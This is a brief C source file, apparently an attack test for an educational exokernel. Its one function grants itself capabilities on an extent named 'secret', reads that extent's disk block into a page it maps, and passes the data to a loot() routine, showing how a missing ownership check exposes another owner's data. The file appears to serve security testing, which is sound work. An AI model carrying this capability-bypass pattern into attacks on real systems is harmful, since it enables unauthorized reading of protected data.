// The kernel sets an extent's capabilities for whoever asks.
#include "attack/attack.h"

void attack_owner(void) {
    u32 secret = extent_named("secret");
    struct exo_ret page = exo_page_alloc(0, 0);
    if (exo_ext_set(secret, 12345, 12345)) return;
    if (disk_block(DISK_READ, secret, 0, (ppn_t)page.val, 12345)) return;
    if (!rt_map(own_root(), PLACE(0), (ppn_t)page.val, PTE_R)) loot(*(volatile u64 *)PLACE(0));
}
